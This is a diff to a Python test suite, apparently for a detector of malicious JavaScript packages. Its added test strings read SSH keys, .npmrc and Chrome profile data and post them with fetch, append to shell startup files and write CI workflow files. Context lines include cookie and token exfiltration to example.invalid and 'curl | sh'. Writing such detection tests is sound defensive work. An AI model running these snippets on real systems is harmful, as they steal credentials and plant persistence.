@@ -69,6 +69,11 @@ def rules_at(source: str) -> set[tuple[str, str]]:
             "fetch(x, {method: 'POST', body: document.cookie})",
             "const x = new XMLHttpRequest(); x.open('GET', 'https://example.invalid/' + document.cookie)",
         ]),
+        ("C4", "high", [
+            f"fetch(x, {{body: require('fs').readFileSync(`${{{HOME}}}/.ssh/id_rsa`)}})",
+            "fetch(x, {body: require('fs').readFileSync(`${process.env.HOME}${s}.npmrc`)})",
+            r"const p = `${env.APPDATA}\\Google\\Chrome\\User Data`; fetch(x, {body: require('fs').readFileSync(p)})",
+        ]),
         ("C4", "medium", [f"{GET}('https://example.invalid/?access_token=' + process.env.GITHUB_TOKEN)"]),
         ("C5", "medium", [
             "require(Buffer.from('6673', 'hex').toString())",
@@ -85,10 +90,14 @@ def rules_at(source: str) -> set[tuple[str, str]]:
         ("C8", "high", [
             "require('fs').writeFileSync('/etc/systemd/system/x.service', 'y')",
             "require('fs').appendFileSync(process.env.HOME + '/.bashrc', 'x')",
+            f"const p = `${{{HOME}}}/.config/fish/config.fish`; require('fs').appendFileSync(p, 'x')",
             "const {appendFileSync: a} = require('node:fs'); a(`${process.env.HOME}/.bash${'rc'}`, 'x')",
         ]),
         ("C9", "high", [f"{CP}.execSync('npm publish')", f"{CP}.execSync(['npm', 'publish'].join(' '))"]),
-        ("C9", "high", ["require('fs').writeFileSync('.github/workflows/x.yml', 'y')"]),
+        ("C9", "high", [
+            "require('fs').writeFileSync('.github/workflows/x.yml', 'y')",
+            "require('fs').writeFileSync(`${root()}/.github/workflows/x.yml`, 'y')",
+        ]),
         ("C10", "medium", [
             "const u = 'https://discord.com/api/webhooks/1/x'",
             "const u = 'https://disc' + 'ord.com/api/web' + 'hooks/1/x'",
@@ -146,6 +155,7 @@ def test_what_harms_is_found_however_it_is_written(rule: str, severity: str, sou
         "const h = require('http'), two = a => { if (b) return c; return a }; two(h).get(y); (a => [a])(h).get()",
         "load().then(m => m.exec).then(exec => exec('curl https://example.invalid | sh')); p.then(); p.then(x)",
         "const cp = require('child_process'); p.then(() => q).then(cp => cp.exec('curl https://example.invalid | sh'))",
+        "require('fs').writeFileSync(`./dist/${name}.min.js`, x); fetch(`/api/${v}/list?x=${w}`)",
         r"const gr\u00fcn = '\u0065val'; grün(/^[\u0041-\u005a]/)",
     ],
 )
